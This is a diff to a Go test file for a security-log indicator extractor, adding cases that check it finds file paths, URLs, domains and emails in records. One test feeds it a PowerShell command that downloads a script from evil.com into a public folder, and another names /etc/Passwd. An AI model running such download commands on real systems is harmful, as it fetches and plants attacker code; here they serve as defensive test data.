@@ -3,6 +3,7 @@ package observable_test
 import (
 	"bytes"
 	"fmt"
+	"maps"
 	"slices"
 	"strings"
 	"testing"
@@ -84,6 +85,12 @@ var extractions = map[string]struct {
 			`command-line c:\program files\z.exe -k`, `filepath c:\program files\z.exe`, "filename z.exe",
 		},
 	},
+	"a Kerberos service": {[]string{"ServiceName", "krbtgt"}, nil},
+	"names of files": {
+		[]string{"name", "/etc/Passwd", "nametype", "NORMAL", "exe", "/usr/bin/x (deleted)", "filename", `a\b\C.exe`, "path", "192.0.2.8"},
+		[]string{"filepath /etc/Passwd", "filename passwd", "filepath /usr/bin/x", "filename x", "filename c.exe", "ip 192.0.2.8"},
+	},
+	"a name of something else": {[]string{"name", "bad_HTTP_request"}, nil},
 	"what Defender found": {
 		[]string{"Path", `containerfile:_C:\a.zip; file:_C:\a.zip->x.exe`, "Process Name", `C:\Windows\b.exe`},
 		[]string{`filepath c:\a.zip`, "filename a.zip", `filepath c:\windows\b.exe`, "filename b.exe"},
@@ -104,6 +111,46 @@ func TestExtractorFindsWhatFieldsHold(t *testing.T) {
 	for name, c := range extractions {
 		if diff := cmp.Diff(c.want, extracted(c.fields...)); diff != "" {
 			t.Errorf("%s (-want +got):\n%s", name, diff)
+		}
+	}
+}
+
+// Whatever kinds are asked for, they are reported as they are among all.
+func TestExtractorReportsOnlyWhatIsWanted(t *testing.T) {
+	t.Parallel()
+	names := intel.NewNames(nil)
+	all, some := observable.NewExtractor(names), observable.NewExtractor(names)
+	rapid.Check(t, func(t *rapid.T) {
+		wanted := rapid.SliceOfDistinct(rapid.SampledFrom(intel.ObservableKinds()), func(k intel.ObservableKind) intel.ObservableKind { return k }).Draw(t, "wanted")
+		some.Only(func(kind intel.ObservableKind) bool { return slices.Contains(wanted, kind) })
+		name := rapid.SampledFrom(slices.Sorted(maps.Keys(extractions))).Draw(t, "record")
+		rec := record(names, extractions[name].fields...)
+		for _, each := range []func(*observable.Extractor, *intel.Record, observable.Visit){(*observable.Extractor).Each, (*observable.Extractor).EachText} {
+			var want, got []string
+			each(all, rec, func(kind intel.ObservableKind, value []byte) {
+				if slices.Contains(wanted, kind) {
+					want = append(want, kind.String()+" "+string(value))
+				}
+			})
+			each(some, rec, func(kind intel.ObservableKind, value []byte) { got = append(got, kind.String()+" "+string(value)) })
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Fatalf("-want +got:\n%s", diff)
+			}
+		}
+	})
+}
+
+func TestExtractorLooksIntoText(t *testing.T) {
+	t.Parallel()
+	names := intel.NewNames(nil)
+	x := observable.NewExtractor(names)
+	rec := record(names, "CommandLine", `powershell iwr http://evil.com/a.ps1 -o C:\Users\Public\a.ps1`, "Message", "sent to jane@evil.com from 127.0.0.1", "Image", `C:\x.exe`)
+	for range 2 { // the second finds the extractor used
+		var got []string
+		x.EachText(rec, func(kind intel.ObservableKind, value []byte) { got = append(got, kind.String()+" "+string(value)) })
+		want := []string{"url http://evil.com/a.ps1", "domain evil.com", `filepath c:\users\public\a.ps1`, "filename a.ps1", "email jane@evil.com"}
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Errorf("-want +got:\n%s", diff)
 		}
 	}
 }
@@ -144,9 +191,10 @@ func TestExtractorDoesNotAllocate(t *testing.T) {
 		records = append(records, record(names, c.fields...))
 	}
 	n := 0
+	visit := func(_ intel.ObservableKind, value []byte) { n += len(value) }
 	each := func() {
 		for _, rec := range records {
-			x.Each(rec, func(_ intel.ObservableKind, value []byte) { n += len(value) })
+			x.Each(rec, visit)
 		}
 	}
 	if allocations := testing.AllocsPerRun(10, each); allocations != 0 {
